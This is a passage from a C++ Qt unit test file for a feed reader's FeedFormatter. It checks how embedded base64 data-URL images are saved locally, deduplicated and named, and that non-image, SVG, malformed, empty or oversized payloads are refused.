    QCOMPARE(formatted.enclosures().size(), 1);
    const FeedEnclosure result = formatted.enclosures().first();
    QCOMPARE(result.localUrl(), local(remoteUrl));
    QCOMPARE(result.mimeType(), expectedMime);
    QCOMPARE(result.typeIcon(), expectedIcon);
    QCOMPARE(result.type(), FeedEnclosure::Optional);
}

void tst_FeedFormatter::embeddedImages()
{
    const QByteArray png = QByteArray::fromBase64(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==");
    const QString source = dataUrl(png);
    FeedMessage formatted = message(QStringLiteral("<img src=\"%1\" alt=\"dot\"><img src='%1'>").arg(source));
    FeedFormatter().localizeImages(formatted);
    QCOMPARE(formatted.enclosures().size(), 1);
    const FeedEnclosure enclosure = formatted.enclosures().first();
    QCOMPARE(enclosure.localUrl(), enclosure.remoteUrl());
    QCOMPARE(QFileInfo(enclosure.localUrl()).absolutePath(), _directory);
    QVERIFY(enclosure.localUrl().endsWith(QLatin1String(".png")));
    QCOMPARE(enclosure.length(), unsigned(png.size()));
    QCOMPARE(enclosure.mimeType(), QStringLiteral("image/png"));
    QCOMPARE(formatted.description(),
             QStringLiteral("<img src=\"%1\" alt=\"dot\"><img src='%1'>").arg(enclosure.localUrl()));
    QFile file(enclosure.localUrl());
    QVERIFY(file.open(QIODevice::ReadOnly));
    QCOMPARE(file.readAll(), png);
    file.close();

    // A later refresh finds the file and leaves it alone, whichever way the payload is encoded.
    progress.clear();
    FeedMessage again = message(QStringLiteral("<img src=\"%1\">").arg(QString(source).replace(QLatin1Char('='), QLatin1String("%3D"))));
    FeedFormatter().localizeImages(again);
    QCOMPARE(remoteUrls(again.enclosures()), QStringList({enclosure.localUrl()}));
    QVERIFY(progress.contains(QStringLiteral("File already exists")));
    QVERIFY(progress.filter(QStringLiteral("Writing image to:")).isEmpty());

    // ...but not a file that holds other bytes.
    QVERIFY(file.open(QIODevice::WriteOnly | QIODevice::Truncate));
    file.write("cut");
    file.close();
    FeedEnclosure rewritten;
    QVERIFY(FeedFormatter().parseEmbeddedData(source, rewritten));
    QCOMPARE(rewritten.localUrl(), enclosure.localUrl());
    QVERIFY(file.open(QIODevice::ReadOnly));
    QCOMPARE(file.readAll(), png);

    // Regression: the name came from the first 100 payload characters alone.
    const QByteArray head(150, 'P');
    FeedMessage alike = message(QStringLiteral("<img src=\"%1\"><img src=\"%2\">")
                                    .arg(dataUrl(head + "first"), dataUrl(head + "second")));
    FeedFormatter().localizeImages(alike);
    QCOMPARE(alike.enclosures().size(), 2);
    QVERIFY(alike.enclosures().at(0).localUrl() != alike.enclosures().at(1).localUrl());
    QCOMPARE(QDir(_directory).entryList(QDir::Files | QDir::Hidden).size(), 3);
}

void tst_FeedFormatter::embeddedImageRefused_data()
{
    QTest::addColumn<QString>("source");
    QTest::addColumn<QString>("warning");
    QTest::addColumn<bool>("kept"); // the image stays in the description
    QTest::newRow("no image type") << "data:text/html;base64,PHNjcmlwdD4=" << "" << false;
    // An SVG image is a document that may hold scripts of its own.
    QTest::newRow("svg image") << "data:image/svg+xml;base64,PHN2Zy8+" << "" << false;
    QTest::newRow("no base64") << "data:image/png,abc" << "" << false;
    QTest::newRow("percent-encoded junk") << "data:image/png;base64,%21%21" << "Failed to write image data:" << false;
    QTest::newRow("empty payload") << "data:image/png;base64," << "Failed to write image data: \"no data\"" << false;
    QTest::newRow("too large") << QStringLiteral("data:image/png;base64,") + QString(15 * 1024 * 1024, QLatin1Char('A'))
                               << "Embedded image too large:" << false;
    // An image that could not be written is not lost.
    QTest::newRow("no directory") << dataUrl("GIF89a") << "Failed to write image data:" << true;
}

void tst_FeedFormatter::embeddedImageRefused()
{
    QFETCH(QString, source);
    QFETCH(QString, warning);
    QFETCH(bool, kept);
    if (kept)
        QVERIFY(QDir(_directory).removeRecursively());
    if (!warning.isEmpty())
        QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QRegularExpression::escape(warning)));
    FeedMessage formatted = message(QStringLiteral("<img src=\"%1\"> words").arg(source));
    FeedFormatter().localizeImages(formatted);
    QCOMPARE(formatted.description(), QStringLiteral("<img src=\"%1\"> words").arg(kept ? source : QString()));
    QVERIFY(formatted.enclosures().isEmpty());
    QCOMPARE(QDir(_directory).entryList(QDir::Files | QDir::Hidden), QStringList());
}

VIRELON_TEST_MAIN(tst_FeedFormatter)
#include "tst_feedformatter.moc"
